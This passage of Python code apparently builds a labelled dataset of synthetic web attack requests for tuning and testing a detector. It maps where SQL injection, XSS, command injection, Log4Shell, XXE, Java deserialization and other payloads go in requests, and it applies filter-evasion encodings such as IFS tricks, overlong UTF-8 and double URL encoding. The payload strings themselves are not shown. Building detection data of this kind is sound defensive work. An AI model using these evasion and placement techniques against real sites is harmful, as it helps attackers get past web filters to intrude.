             F("/contact", with_payload(CONTACT, "message")),
             F("/admin/email-templates", [("csrfmiddlewaretoken", CSRF), ("name", "welcome"),
                                          ("body", "$P")])],
    "json": [J("/api/v1/me/preferences", {"displayName": "$P"}, "PATCH"),
             J("/api/v1/email/preview", {"template": "$P", "data": {"name": "Dana"}}),
             J("/api/v1/newsletter/campaigns", {"subject": "$P", "segment": "all"}),
             J("/api/v1/gift-cards", {"amount": 25, "message": "$P", "to": "mara@example.org"})],
    "multipart": [M("/account/profile", with_payload(PROFILE_FORM, "display_name"),
                    ("avatar", "avatar.svg", "image/svg+xml", AVATAR_SVG)),
                  M("/admin/email-templates/upload", [("name", "welcome")],
                    ("template", "welcome.html", "text/html",
                     "<html><body><p>Hello $P</p></body></html>"), role="content")],
    "header": [H("Referer", "raw"), H("X-Forwarded-For")],
    "cookie": [C("display_name"), C("greeting"), C("theme")],
}

LOG4J_HEADERS = ["X-Api-Version", "Referer", "X-Forwarded-For", "Accept-Language",
                 "X-Requested-With", "X-Client-IP", "True-Client-IP", "CF-Connecting-IP",
                 "X-Forwarded-Host", "Accept", "X-Correlation-ID", "If-Modified-Since"]
LOG4SHELL_SLOTS = {
    "query": [Q("/search", "q"), Q("/api/v1/products", "category"),
              Q("/api/v1/search/suggest", "q"), Q("/products", "id"), Q("/", "x"),
              Q("/account/login", "next")],
    "path": [PA("/api/v1/products/{}", modes=("plain", "url")), PA("/{}", modes=("plain", "url")),
             PA("/category/{}", modes=("plain", "url"))],
    "form": [F("/account/login", with_payload(LOGIN, "username")),
             F("/account/login", with_payload(LOGIN, "password")),
             F("/search", [("q", "$P"), ("category", "books")])],
    "json": [J("/api/v1/auth/login", {"username": "$P", "password": "Summer2024!"}),
             J("/api/v1/search", {"query": "$P", "page": 1}),
             J("/api/v1/events", {"events": [{"type": "click", "page": "$P"}],
                                  "sessionId": "0b8e77c1d2f34a55"})],
    "multipart": [M("/account/profile", with_payload(PROFILE_FORM, "display_name"),
                    ("avatar", "avatar.svg", "image/svg+xml", AVATAR_SVG)),
                  M("/support/tickets", [("subject", "Question")],
                    ("attachment", "$P", "text/plain", "hello"), role="filename")],
    "header": [H(n, "raw", modes=("plain", "url") if n == "Referer" else None)
               for n in LOG4J_HEADERS] + [H("Authorization", "bearer")],
    "cookie": [C("JSESSIONID", modes=("plain", "url")), C("session", modes=("plain", "url")),
               C("tracking_id", modes=("plain", "url")), C("locale", modes=("plain", "url"))],
    "user-agent": [UA("replace"), UA("append")],
}

NOSQL_SLOTS = {
    "query": [Q("/api/v1/auth/login", None, ctx="auth"), Q("/api/v1/users", None, ctx="auth"),
              Q("/api/v1/password-reset/confirm", None, ctx="reset"),
              Q("/api/v1/products", None, [("page", "1")], ctx="filter"),
              Q("/api/v1/orders", None, [("limit", "20")], ctx="filter"),
              Q("/api/v1/users", "name", ctx="js"), Q("/api/v1/products/search", "q", ctx="js")],
    "form": [F("/account/login", [("csrfmiddlewaretoken", CSRF)], ctx="auth"),
             F("/account/password-reset", [("csrfmiddlewaretoken", CSRF)], ctx="reset"),
             F("/account/orders/search", [("csrfmiddlewaretoken", CSRF)], ctx="filter"),
             F("/account/login", [("username", "$P"), ("password", "x")], ctx="js")],
    "json": [J("/api/v1/auth/login", None, ctx="auth"), J("/api/v1/users/login", None, ctx="auth"),
             J("/api/v1/password-reset/confirm", None, ctx="reset"),
             J("/api/v1/products/search", None, ctx="filter"),
             J("/api/v1/orders/query", None, ctx="filter"),
             J("/api/v1/users/lookup", {"username": "$P"}, ctx="js")],
    "multipart": [M("/account/profile", [("csrfmiddlewaretoken", CSRF)], role="fieldname",
                    ctx="auth"), M("/account/verify", [], role="fieldname", ctx="reset")],
    "cookie": [C("token", "cookie", modes=("plain", "url")),
               C("session", "cookie", modes=("plain", "url")),
               C("remember", "cookie", modes=("plain", "url"))],
}

PROTO_SLOTS = {
    "query": [Q("/", None), Q("/products", None, [("page", "1")]),
              Q("/search", None, [("q", "shoes")]), Q("/api/v1/products", None, [("limit", "24")]),
              Q("/account", None)],
    "form": [F("/account/profile/edit", [("csrfmiddlewaretoken", CSRF), ("display_name", "Dana")]),
             F("/checkout/address", [("first_name", "Dana"), ("city", "Leeds")]),
             F("/newsletter/subscribe", [("email", "dana.k@example.org")])],
    "json": [J("/api/v1/me/preferences", {"newsletter": True}, "PUT"),
             J("/api/v1/users/me", {"displayName": "Dana"}, "PATCH"),
             J("/api/v1/cart/items", {"productId": "SKU-40211", "quantity": 1}),
             J("/api/v1/settings", {}, "POST"), J("/api/v1/events", {"type": "click"})],
    "multipart": [M("/account/profile", [("csrfmiddlewaretoken", CSRF)], role="fieldname"),
                  M("/api/v1/uploads", [("album", "reviews")], role="fieldname")],
    "cookie": [C("prefs", modes=("plain", "url")), C("settings", modes=("plain", "url"))],
}

XXE_XML_DOCS = [
    ("/api/v1/xml/products/search", "search", "<search><query>{use}</query><page>1</page>"
     "</search>", "application/xml", []),
    ("/soap/ProductService", "soap:Envelope", '<soap:Envelope xmlns:soap="http://schemas.'
     'xmlsoap.org/soap/envelope/"><soap:Body><getProduct xmlns="urn:shop:products"><id>{use}'
     "</id></getProduct></soap:Body></soap:Envelope>", "text/xml; charset=utf-8",
     [("SOAPAction", '"urn:shop:products#getProduct"')]),
    ("/api/v1/orders/import", "order", "<order><id>88213</id><customer><name>{use}</name>"
     "<email>dana.k@example.org</email></customer><items><item sku=\"SKU-40211\" qty=\"1\"/>"
     "</items></order>", "application/xml", []),
    ("/admin/feeds/import", "rss", '<rss version="2.0"><channel><title>{use}</title><link>'
     "https://blog.example.org/</link><item><title>Spring sale</title></item></channel></rss>",
     "application/rss+xml", []),
    ("/api/v1/cart/items", "item", "<item><productId>{use}</productId><quantity>1</quantity>"
     "</item>", "application/xml", []),
    ("/xmlrpc.php", "methodCall", "<methodCall><methodName>wp.getUsersBlogs</methodName><params>"
     "<param><value><string>{use}</string></value></param><param><value><string>x</string>"
     "</value></param></params></methodCall>", "text/xml", []),
]
XXE_FILES = [
    ("/account/avatar", "avatar", "avatar.svg", "image/svg+xml", "svg",
     '<svg xmlns="http://www.w3.org/2000/svg" width="256" height="256"><text x="10" y="40">'
     "{use}</text></svg>", [("csrfmiddlewaretoken", CSRF)]),
    ("/admin/products/import", "file", "products.xml", "text/xml", "products",
     "<products><product><sku>SKU-10001</sku><name>{use}</name><price>19.99</price></product>"
     "</products>", [("mode", "update")]),
    ("/support/tickets", "attachment", "invoice.xml", "application/xml", "invoice",
     "<invoice><number>{use}</number><total currency=\"EUR\">42.00</total></invoice>",
     [("subject", "Wrong invoice"), ("order_id", "88213")]),
]

DESER_SLOTS = {
    "body": [("/invoker/JMXInvokerServlet", "application/x-java-serialized-object"),
             ("/invoker/EJBInvokerServlet", "application/x-java-serialized-object"),
             ("/remoting/OrderService", "application/x-java-serialized-object"),
             ("/api/v1/session/restore", "application/octet-stream"),
             ("/services/CartService", "application/x-java-serialized-object")],
    "cookie": [C("session_state", modes=("base64", "gzip-base64")), C("cart", modes=("base64",)),
               C("prefs", modes=("base64", "gzip-base64")), C("auth", modes=("base64",))],
    "header": [H("X-Auth-Token", modes=("base64",)), H("X-Session-State", modes=("base64",)),
               H("Authorization", "bearer", modes=("base64",))],
    "query": [Q("/api/v1/session/restore", "state", modes=("base64",)),
              Q("/faces/index.xhtml", "javax.faces.ViewState", modes=("base64", "gzip-base64")),
              Q("/login", "data", modes=("base64", "hex"))],
    "form": [F("/faces/checkout.xhtml", [("checkout", "checkout"),
                                         ("checkout:email", "dana.k@example.org"),
                                         ("javax.faces.ViewState", "$P")],
               modes=("base64", "gzip-base64")),
             F("/api/v1/cart/restore", [("cart", "$P")], modes=("base64", "hex"))],
    "json": [J("/api/v1/cart/restore", {"cart": "$P", "version": 2}),
             J("/api/v1/session/import", {"session": "$P"}),
             J("/api/v1/orders", None), J("/api/v1/products/import", None),
             J("/api/v1/me/preferences", None, "PUT")],
    "xml": [("/wls-wsat/CoordinatorPortType", "text/xml", "wls"),
            ("/_async/AsyncResponseService", "text/xml", "wls"),
            ("/api/v1/settings/import", "application/xml", "xmldecoder"),
            ("/api/v1/orders", "application/xml", "xstream"),
            ("/api/v1/products/import", "application/xml", "xstream")],
    "multipart": [("/admin/import/session", "file", "session.ser", "application/octet-stream"),
                  ("/api/v1/backups/restore", "backup", "cart-backup.bin",
                   "application/x-java-serialized-object"),
                  ("/api/v1/session/import", "state", None, None)],
}

# ----------------------------------------------------------------------------------------------
# Categories: how many requests, in which placements, with which encodings.

BASE_ENCODINGS = {
    "query": {"plain": 5, "url": 2, "double-url": 1},
    "path": {"plain": 4, "url": 1, "double-url": 1},
    "form": {"plain": 4, "url": 3, "double-url": 1},
    "json": {"plain": 5, "unicode-escape": 3},
    "xml": {"plain": 4, "html-entity": 2, "cdata": 1},
    "multipart": {"plain": 1},
    "header": {"plain": 5, "url": 1, "double-url": 1},
    "cookie": {"plain": 4, "url": 2},
    "user-agent": {"plain": 1},
}
EVASIONS = {  # payload-level evasions per category, with their weight in every placement
    "sqli": {"mixed-case": 2, "sql-comment": 2, "whitespace": 1, "base64": 2},
    "xss": {"mixed-case": 1},
    "rce": {"ifs": 2, "quote-split": 2, "caret": 1, "mixed-case": 1},
    "path-traversal": {"url-partial": 1, "utf8-overlong": 2, "percent-u": 1, "mixed-case": 1},
    "lfi": {"mixed-case": 1, "utf8-overlong": 1},
    "rfi": {"mixed-case": 1},
    "ssrf": {"mixed-case": 1},
    "ssti": {},
    "log4shell": {"mixed-case": 1},
}
SPECIFIC_ENCODINGS = {
    "nosql": {"query": {"plain": 2, "url": 1}, "form": {"plain": 2, "url": 1},
              "json": {"plain": 3, "unicode-escape": 2}, "multipart": {"plain": 1},
              "cookie": {"plain": 1, "url": 1}},
    "prototype-pollution": {"query": {"plain": 2, "url": 1}, "form": {"plain": 2, "url": 1},
                            "json": {"plain": 3, "unicode-escape": 2},
                            "multipart": {"plain": 1}, "cookie": {"plain": 1, "url": 1}},
    "xxe": {"xml": {"plain": 4, "utf-16": 1}, "multipart": {"plain": 4, "utf-16": 1}},
    "java-deserialization": {
        "body": {"plain": 1}, "cookie": {"base64": 3, "gzip-base64": 1},
        "header": {"base64": 1}, "query": {"base64": 3, "gzip-base64": 1, "hex": 1},
        "form": {"base64": 3, "gzip-base64": 1, "hex": 1},
        "json": {"base64": 2, "plain": 3, "unicode-escape": 2},
        "xml": {"plain": 3, "html-entity": 1}, "multipart": {"plain": 2, "base64": 1}},
}

CATEGORIES = [
    # name, payloads, slots, {placement: requests}, contexts any slot of the same kind takes
    ("sqli", SQLI, SQLI_SLOTS, {"query": 70, "path": 25, "form": 45, "json": 45, "xml": 20,
                                "multipart": 20, "header": 40, "cookie": 35, "user-agent": 20},
     {None, "num", "str"}),
    ("xss", XSS, XSS_SLOTS, {"query": 70, "path": 25, "form": 45, "json": 40, "xml": 15,
                             "multipart": 30, "header": 30, "cookie": 25, "user-agent": 20},
     {None, "js"}),
    ("rce", RCE, RCE_SLOTS, {"query": 60, "path": 15, "form": 35, "json": 35, "xml": 15,
                             "multipart": 20, "header": 35, "cookie": 20, "user-agent": 25},
     {None}),
    ("path-traversal", PATH_TRAVERSAL, TRAVERSAL_SLOTS,
     {"query": 60, "path": 45, "form": 20, "json": 20, "xml": 8, "multipart": 20, "header": 12,
      "cookie": 15}, {None, "upload"}),
    ("lfi", LFI, LFI_SLOTS, {"query": 70, "path": 10, "form": 20, "json": 20, "multipart": 10,
                             "header": 15, "cookie": 30, "user-agent": 15}, {None}),
    ("rfi", RFI, RFI_SLOTS, {"query": 55, "form": 15, "json": 15, "multipart": 10, "cookie": 15},
     {None}),
    ("ssrf", SSRF, SSRF_SLOTS, {"query": 70, "path": 20, "form": 30, "json": 45, "xml": 20,
                                "multipart": 15, "header": 20}, {None}),
    ("ssti", SSTI, SSTI_SLOTS, {"query": 60, "path": 25, "form": 30, "json": 40, "multipart": 20,
                                "header": 12, "cookie": 13}, {None}),
    ("log4shell", LOG4SHELL, LOG4SHELL_SLOTS,
     {"header": 70, "user-agent": 35, "query": 30, "path": 15, "form": 20, "json": 25,
      "cookie": 20, "multipart": 15}, {None}),
    ("xxe", XXE, {"xml": XXE_XML_DOCS, "multipart": XXE_FILES}, {"xml": 100, "multipart": 40},
     {None}),
    ("java-deserialization", DESER, DESER_SLOTS,
     {"body": 30, "cookie": 25, "header": 15, "query": 15, "form": 15, "json": 30, "xml": 15,
      "multipart": 10}, {None}),
    ("nosql", NOSQL, NOSQL_SLOTS, {"json": 65, "query": 40, "form": 30, "multipart": 10,
                                   "cookie": 15}, {None}),
    ("prototype-pollution", PROTO, PROTO_SLOTS, {"json": 60, "query": 40, "form": 20,
                                                 "multipart": 10, "cookie": 10}, {None}),
]
SHELLSHOCK_PLACEMENTS = {"header", "user-agent", "cookie"}


def encodings_for(cat, pl):
    if cat in SPECIFIC_ENCODINGS:
        return dict(SPECIFIC_ENCODINGS[cat][pl])
    encs = dict(BASE_ENCODINGS[pl])
    for e, w in EVASIONS.get(cat, {}).items():
        if e == "base64" and pl not in ("header", "cookie"):
            continue
        if pl in ("multipart", "user-agent", "xml") and e in ("url-partial", "utf8-overlong",
                                                              "percent-u"):
            continue
        encs[e] = w
    return encs


def slot_fits(slot, p, soft):
    sc, pc = slot.get("ctx"), p.ctx
    return sc == pc or (sc in soft and pc in soft)


def placement_allowed(cat, p, pl):
    if p.only is not None:
        return pl in p.only
    if "shellshock" in p.flags:
        return pl in SHELLSHOCK_PLACEMENTS
    if cat in ("nosql", "prototype-pollution") and isinstance(p.text, dict):
        return pl in ("json", "cookie")
    return True


def mixed_case(cat, p, t, rng):
    if cat == "sqli":
        return outside_quotes(t, lambda s: regex_case(s, SQL_RE, rng))
    if cat == "xss":
        return regex_case(t, XSS_RE, rng)
    if cat == "rce" and "win" in p.flags:
        return regex_case(t, WIN_CMD_RE, rng)
    if cat == "path-traversal" and "win" in p.flags:
        return regex_case(t, WIN_PATH_RE, rng)
    if cat == "lfi" and "wrapper" in p.flags:
        return regex_case(t, WRAPPER_RE, rng)
    if cat == "lfi" and "win" in p.flags:
        return regex_case(t, WIN_PATH_RE, rng)
    if cat in ("ssrf", "rfi"):
        return regex_case(t, URL_RE, rng)
    if cat == "log4shell":
        return regex_case(t, JNDI_RE, rng)
    return t


def apply_encoding(cat, enc, p, pl, rng):
    """(text, transport mode) of payload p under encoding enc, or None when enc does not apply
    to it."""
    t = p.text
    if enc == "plain":
        return t, "plain"
    if enc in ("url", "double-url"):
        if (cat in ("path-traversal", "lfi") and TRAV_RE.search(t) and
                pl in ("query", "path", "form", "cookie", "header")):
            return traversal_escape(t, enc, rng), "pre"
        return t, ("url" if enc == "url" else "double")
    if enc == "percent-u" and pl in ("query", "path"):
        return None  # %uXXXX is not percent-encoding: no valid request-target carries it
    if enc in ("url-partial", "utf8-overlong", "percent-u"):
        return (traversal_escape(t, enc, rng), "pre") if TRAV_RE.search(t) else None
    simple = {"unicode-escape": "uescape", "html-entity": "entity", "cdata": "cdata",
              "base64": "base64"}
    if enc in simple:
        return t, simple[enc]
    if enc == "mixed-case":
        out = mixed_case(cat, p, t, rng)
    elif enc == "sql-comment":
        out = sql_comment(t, rng)
    elif enc == "whitespace":
        out = sql_whitespace(t, rng, header=pl in ("header", "cookie", "user-agent"))
    elif enc == "ifs":
        out = shell_ifs(t, rng) if "ifs" in p.flags else t
    elif enc == "quote-split":
        out = (shell_quote_split(t, rng) if "unix" in p.flags and "shellshock" not in p.flags
               else t)
    elif enc == "caret":
        out = cmd_caret(t, rng) if "win" in p.flags else t
    else:
        raise ValueError(enc)
    return (out, "plain") if out != t else None


# ----------------------------------------------------------------------------------------------
# Request builders.

class Builder:
    def __init__(self, rng, clients):
        self.rng, self.clients = rng, clients

    def client(self, browser_share=0.55, tools=None):
        return self.clients.pick(self.rng, browser_share, tools)

    def request(self, client, method, target, nav=False, extra=(), body=None, accept=None):
        headers = client_headers(self.rng, client, method, target, nav, extra, accept)
        req = {"method": method, "target": target, "headers": headers}
        if isinstance(body, bytes):
            try:
                text = body.decode("utf-8")
                if "\x00" in text:  # NUL bytes: keep the body binary-safe
                    raise UnicodeDecodeError("utf-8", body, 0, 1, "NUL")
                req["body"] = text
            except UnicodeDecodeError:
                req["body_base64"] = base64.b64encode(body).decode("ascii")
        elif body is not None:
            req["body"] = body
        return req

    # -- string payloads ------------------------------------------------------------------

    def query(self, slot, value, mode):
        rng = self.rng
        pairs = [f"{quote_plus(k)}={quote_plus(v)}" for k, v in slot["extra"]]
        pairs.insert(rng.randrange(len(pairs) + 1), f"{quote(slot['param'], safe='')}="
                                                    f"{enc_query(value, mode, rng)}")
        target = slot["path"] + "?" + "&".join(pairs)
        return self.request(self.client(), "GET", target, nav=not slot["api"])

    def path(self, slot, value, mode):
        target = slot["template"].replace("{}", enc_path(value, mode, self.rng))
        raw_dots = ".." in value or "\\" in value
        client = self.client(0.0 if raw_dots else 0.5)
        return self.request(client, "GET", target, nav=not target.startswith("/api/"))

    def form_body(self, fields, value, mode):
        out = []
        for k, v in fields:
            if v == "$P":
                out.append(f"{quote_plus(k)}={enc_form(value, mode, self.rng)}")
            else:
                out.append(f"{quote_plus(k)}={quote_plus(v)}")
        return "&".join(out)

    def form(self, slot, value, mode):
        client = self.client()
        extra = []
        if client["type"] == "browser" and client["b"]["kind"] in ("chrome", "edge"):
            extra.append(("Cache-Control", "max-age=0"))
        extra.append(("Content-Type", "application/x-www-form-urlencoded"))
        return self.request(client, "POST", slot["path"], nav=True, extra=extra,
                            body=self.form_body(slot["fields"], value, mode))

    def json_post(self, path, method, obj, uescape, client=None):
        client = client or self.client()
        spaced = client["type"] == "tool" and client["name"] == "python"
        body = json_dump(obj, self.rng, uescape, spaced)
        ctype = self.rng.choice(["application/json", "application/json;charset=UTF-8"]) \
            if client["type"] == "browser" else "application/json"
        return self.request(client, method, path, extra=[("Content-Type", ctype)], body=body)

    def json(self, slot, value, mode):
        obj = replace_sentinel(slot["obj"], Marked(value))
        return self.json_post(slot["path"], slot["method"], obj, mode == "uescape")

    def xml(self, slot, value, mode):
        if any(ord(c) < 0x20 and c not in "\t\n\r" for c in value):
            return None  # XML 1.0 has no way to carry NUL or other controls
        body = slot["template"].replace("{P}", xml_text(value, mode, self.rng))
        client = self.client(0.25)
        extra = [("Content-Type", slot["ctype"])] + slot["extra"]
        return self.request(client, "POST", slot["path"], extra=extra, body=body,
                            accept="application/xml, text/xml, */*")

    def multipart(self, slot, value, mode, fieldnames=None):
        role = slot["role"]
        if role == "filename" and any(c in value for c in "\"\r\n\x00"):
            return None
        parts = []
        for k, v in slot["fields"]:
            parts.append((k, None, None, value if v == "$P" else v))
        if fieldnames:
            parts += [(k, None, None, v) for k, v in fieldnames]
        if slot["file"]:
            field, filename, ctype, content = slot["file"]
            if role == "filename":
                filename = filename.replace("$P", value)
            if role == "content":
                content = content.replace("$P", value)
            parts.append((field, filename, ctype, content))
        client = self.client(0.6 if slot["nav"] else 0.3)
        boundary = boundary_for(client, self.rng)
        body = multipart_body(parts, boundary)
        if boundary.encode() in body.split(b"\r\n", 1)[1].replace(
                f"--{boundary}".encode(), b""):
            return None
        extra = [("Content-Type", f"multipart/form-data; boundary={boundary}")]
        return self.request(client, "POST", slot["path"], nav=slot["nav"], extra=extra,
                            body=body)

    def header(self, slot, value, mode):
        rng, style = self.rng, slot["style"]
        if style == "referer" and (mode != "plain" or rng.random() < 0.6):
            value = ORIGIN + "/search?q=" + enc_query(value, mode, rng)
        elif style == "basic":
            value = "Basic " + b64(value + ":" + rng.choice(["x", "password", "Summer2024!"]))
        elif style == "bearer":
            value = "Bearer " + enc_header(value, mode, rng)
        elif style == "url":
            value = enc_query(value, mode, rng) if mode == "pre" else value
            value = ("/static/" + value) if slot["name"] != "X-File-Name" else value
        else:
            value = enc_header(value, mode, rng)
        if not header_ok(value):
            return None
        req = self.request(self.client(0.5), "GET", rng.choice(
            ["/", "/products/48213", "/search?q=desk+lamp", "/api/v1/products?page=1",
             "/category/shoes?page=2", "/account/orders"]), nav=True)
        set_header(req["headers"], slot["name"], value)
        return req

    def cookie(self, slot, value, mode, p=None):
        rng = self.rng
        whole = p is not None and "shellshock" in p.flags
        if whole:
            if mode != "plain":
                return None
            v = value
        elif mode == "gzip-base64":
            v = base64.b64encode(gzip.compress(value.encode(), mtime=0)).decode()
        else:
            v = enc_cookie(value, mode, rng)
        if not header_ok(v):
            return None
        req = self.request(self.client(0.6), "GET", rng.choice(
            ["/", "/account", "/account/orders", "/cart", "/products/48213", "/api/v1/me",
             "/api/v1/cart"]), nav=rng.random() < 0.6)
        add_cookie(req["headers"], slot["name"], v, rng, whole=whole)
        return req

    def user_agent(self, slot, value, mode):
        if not header_ok(value):
            return None
        client = self.client(0.4)
        req = self.request(client, "GET", self.rng.choice(
            ["/", "/products/48213", "/search?q=backpack", "/help/shipping", "/blog",
             "/api/v1/products?page=1"]), nav=True)
        ua = value
        if slot["style"] == "append":
            for h in req["headers"]:
                if h[0] == "User-Agent":
                    ua = h[1] + " " + value
        set_header(req["headers"], "User-Agent", ua)
        return req

    def string_payload(self, pl, slot, value, mode, p):
        if pl == "cookie":
            return self.cookie(slot, value, mode, p)
        if pl == "user-agent":
            return self.user_agent(slot, value, mode)
        return getattr(self, pl)(slot, value, mode)

    # -- structured payloads: bracket keys and JSON objects --------------------------------

    def pairs(self, pl, slot, pairs, mode):
        rng = self.rng
        if pl == "query":
            keyenc = (lambda k: quote(k, safe="$")) if mode == "plain" else pct_all
            items = [f"{quote_plus(k)}={quote_plus(v)}" for k, v in slot["extra"]]
            items += [f"{keyenc(k)}={enc_query(v, mode, rng)}" for k, v in pairs]
            target = slot["path"] + "?" + "&".join(items)
            return self.request(self.client(), "GET", target, nav=not slot["api"])
        if pl == "form":
            keyenc = (lambda k: quote(k, safe="[]$ ").replace(" ", "+")) if mode == "plain" \
                else pct_all
            items = [f"{quote_plus(k)}={quote_plus(v)}" for k, v in slot["fields"]]
            items += [f"{keyenc(k)}={enc_form(v, mode, rng)}" for k, v in pairs]
            client = self.client()
            return self.request(client, "POST", slot["path"], nav=True,
                                extra=[("Content-Type", "application/x-www-form-urlencoded")],
                                body="&".join(items))
        if pl == "multipart":
            return self.multipart(dict(slot, role="field"), "", mode, fieldnames=pairs)
        raise ValueError(pl)

    def json_object(self, slot, obj, mode, marker=mark_operators):
        base = slot["obj"]
        if isinstance(obj, dict) and base:
            merged = dict(base)
            merged.update(obj)
            obj = merged
        return self.json_post(slot["path"], slot["method"], marker(obj), mode == "uescape")

    def json_cookie(self, slot, obj, mode):
        value = "j:" + json.dumps(obj, separators=(",", ":"))
        return self.cookie(slot, value, mode)


def marked_java(obj):
    """Marks what a fastjson/Jackson payload's author escapes: "@type" and class names."""
    if isinstance(obj, dict):
        return {(Marked(k) if k.startswith("@") else k): marked_java(v) for k, v in obj.items()}
    if isinstance(obj, list):
        return [marked_java(v) for v in obj]
    if isinstance(obj, str) and re.fullmatch(r"L?[a-z][\w$]*(\.[\w$]+)+;?", obj):
        return Marked(obj)
    return obj


def xml_entity_names(s, rng):
    """Character references inside the class names and strings of an XML gadget (decoded by the
    parser before XMLDecoder / XStream read them)."""
    def esc(m):
        w = m.group(0)
        i = rng.randrange(len(w))
        return w[:i] + "&#x%x;" % ord(w[i]) + w[i + 1:]
    return re.sub(r"ProcessBuilder|Runtime|EventHandler|XMLDecoder|Comparable", esc, s)


def build_xxe(b, pl, p, enc, slot):
    doctype, use = p.raw
    rng = b.rng
    if pl == "xml":
        path, root, template, ctype, extra = slot
        client = b.client(0.2)
    else:
        path, field, filename, ctype, root, template, fields = slot
        client = b.client(0.5)
    decl_enc = "UTF-16" if enc == "utf-16" else "UTF-8"
    doc = (f'<?xml version="1.0" encoding="{decl_enc}"?>\n' +
           (doctype.replace("{root}", root) + "\n" if doctype else "") +
           template.replace("{use}", use or "test"))
    data = doc.encode("utf-16") if enc == "utf-16" else doc.encode("utf-8")
    if pl == "xml":
        return b.request(client, "POST", path, extra=[("Content-Type", ctype)] + extra, body=data,
                         accept="application/xml, text/xml, */*")
    boundary = boundary_for(client, rng)
    parts = [(k, None, None, v) for k, v in fields] + [(field, filename, ctype, data)]
    return b.request(client, "POST", path, nav=True,
                     extra=[("Content-Type", f"multipart/form-data; boundary={boundary}")],
                     body=multipart_body(parts, boundary))


def serialized_text(data, enc):
    if enc == "gzip-base64":
        return base64.b64encode(gzip.compress(data, mtime=0)).decode()
    if enc == "hex":
        return data.hex()
    return base64.b64encode(data).decode()


def build_deser(b, pl, p, enc, slot):
    rng = b.rng
    java_tools = ["java", "apache-httpclient", "curl", "python"]
    if "binary" in p.flags:
        data = p.text
        if pl == "body":
            path, ctype = slot
            return b.request(b.client(tools=java_tools), "POST", path,
                             extra=[("Content-Type", ctype)], body=data)
        if pl == "multipart":
            path, field, filename, ctype = slot
            if (filename is None) != (enc == "base64"):
                return None
            client = b.client(0.3)
            boundary = boundary_for(client, rng)
            if filename:
                parts = [("description", None, None, "nightly"), (field, filename, ctype, data)]
            else:
                parts = [(field, None, None, serialized_text(data, "base64"))]
            return b.request(client, "POST", path, nav=client["type"] == "browser",
                             extra=[("Content-Type", f"multipart/form-data; boundary={boundary}")],
                             body=multipart_body(parts, boundary))
        if enc not in ("base64", "gzip-base64", "hex"):
            return None
        text = serialized_text(data, enc)
        if pl == "cookie":
            return b.cookie(slot, text, "plain")
        if pl == "header":
            return b.header(dict(slot, style="bearer" if slot["style"] == "bearer" else "raw"),
                            text, "plain")
        if pl == "query":
            return b.query(slot, text, "url")
        if pl == "form":
            return b.form(slot, text, "url")
        if pl == "json":
            if slot["obj"] is None or enc != "base64":
                return None
            return b.json(slot, text, "plain")
        return None
    if pl == "json":
        if slot["obj"] is not None or enc not in ("plain", "unicode-escape"):
            return None
        obj = p.text
        if rng.random() < 0.4:
            obj = {rng.choice(["payment", "item", "config", "data"]): obj}
        return b.json_post(slot["path"], slot["method"], marked_java(obj), enc == "unicode-escape",
                           client=b.client(0.2))
    if pl == "xml":
        path, ctype, kind = slot
        if kind != p.ctx or enc not in ("plain", "html-entity"):
            return None
        body = p.text if enc == "plain" else xml_entity_names(p.text, rng)
        return b.request(b.client(tools=java_tools), "POST", path,
                         extra=[("Content-Type", ctype)], body=body)
    return None


def build(b, cat, pl, p, enc, slot):
    """The request for payload p in slot of placement pl with encoding enc, or None when that
    combination does not fit (e.g. a newline in a header)."""
    if cat == "xxe":
        return build_xxe(b, pl, p, enc, slot)
    if cat == "java-deserialization":
        return build_deser(b, pl, p, enc, slot)
    r = apply_encoding(cat, enc, p, pl, b.rng)
    if r is None:
        return None
    text, mode = r
    if isinstance(text, list):  # bracket keys (slot_ok matched the slot to the shape)
        return b.pairs(pl, slot, text, mode)
    if isinstance(text, dict):
        if pl == "json":
            return b.json_object(slot, text, mode)
        return b.json_cookie(slot, text, mode)
    if mode not in slot["modes"]:
        return None
    return b.string_payload(pl, slot, text, mode, p)


# ----------------------------------------------------------------------------------------------
# Generation: balanced over payloads, placements and encodings; split by payload.


def slot_ok(cat, pl, slot, p, soft):
    if cat == "xxe":
        return True
    if cat == "java-deserialization":
        if pl == "xml":
            return slot[2] == p.ctx
        if pl in ("body", "multipart"):
            return "binary" in p.flags
        if pl == "json":
            return (slot["obj"] is None) != ("binary" in p.flags)
        return "binary" in p.flags
    if isinstance(p.text, list):
        if pl == "query":
            return slot["param"] is None and slot.get("ctx") == p.ctx
        if pl in ("form", "multipart"):
            return "$P" not in str(slot["fields"]) and slot.get("ctx") == p.ctx
        return False
    if isinstance(p.text, dict):
        if pl == "json":
            return slot["obj"] is None and slot.get("ctx") == p.ctx if cat == "nosql" \
                else True
        return pl == "cookie" and slot.get("ctx") == p.ctx
    if pl == "query" and slot["param"] is None:
        return False
    if pl == "json" and slot["obj"] is None:
        return False
    if pl == "multipart" and slot["role"] == "fieldname":
        return False
    if pl in ("form",) and "$P" not in str(slot["fields"]):
        return False
    return slot_fits(slot, p, soft)


def split_of(cat, payloads):
    """30 % of a category's payloads, chosen by a hash of the payload, are "holdout"."""
    ranked = sorted(payloads, key=lambda p: hashlib.sha256(
        (cat + "\x00" + p.key).encode("utf-8")).hexdigest())
    return {p.key: ("holdout" if i % 10 in (2, 5, 8) else "tune") for i, p in enumerate(ranked)}


def pick_requests(rng, cat, pl, count, elig, slots, encs, fits, exact, make, usage, combo,
                  enc_use):
    """Yields (payload, encoding, request) `count` times for placement `pl`: the least-used
    eligible payload, a slot it fits (`fits(slot, p)`; 70 % of the time one whose context is
    the payload's, `exact(slot, p)`), and the least-used encoding `make(p, enc, slot)` can
    build. `usage`, `combo` and `enc_use` count across a category's placements."""
    penalty = {}
    made = 0
    while made < count:
        p = min(elig, key=lambda q: (usage[q.key] + penalty.get(q.key, 0),
                                     combo.get((q.key, pl), 0), rng.random()))
        fitting = [s for s in slots if fits(s, p)]
        exact_ones = [s for s in fitting if exact(s, p)]
        slot = rng.choice(exact_ones if exact_ones and rng.random() < 0.7 else fitting)
        order = sorted(encs, key=lambda e: (enc_use.get((pl, e), 0) / encs[e] +
                                            3 * combo.get((p.key, pl, e), 0),
                                            rng.random()))
        req = None
        for enc in order:
            req = make(p, enc, slot)
            if req is not None:
                break
        if req is None:
            penalty[p.key] = penalty.get(p.key, 0) + 1
            if penalty[p.key] > 50:
                raise RuntimeError(f"{cat}/{pl}: nothing fits {p.key!r}")
            continue
        usage[p.key] += 1
        combo[(p.key, pl)] = combo.get((p.key, pl), 0) + 1
        combo[(p.key, pl, enc)] = combo.get((p.key, pl, enc), 0) + 1
        enc_use[(pl, enc)] = enc_use.get((pl, enc), 0) + 1
        made += 1
        yield p, enc, req


def generate(seed=SEED):
